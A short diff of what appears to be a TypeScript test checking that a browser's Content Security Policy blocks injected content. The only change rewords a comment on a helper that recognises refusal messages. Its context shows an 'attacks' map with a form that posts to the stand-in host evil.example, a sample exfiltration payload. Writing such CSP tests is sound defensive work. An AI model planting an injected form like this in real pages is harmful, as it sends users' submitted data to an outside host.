@@ -16,10 +16,7 @@ const attacks: Record<string, string> = {
   'form-action': '<form id="stolen" action="https://evil.example/" method="post"></form>',
 }
 
-/**
- * Whether a message of the browser says that it refuses something, or that a refused request has
- * failed.
- */
+/** Whether a message of the browser reports a refusal, or the failure of a refused request. */
 const isRefusal = (line: string) =>
   /Content Security Policy|requires 'Trusted|^failed: .*(csp|net::ERR_BLOCKED)/i.test(line)
 
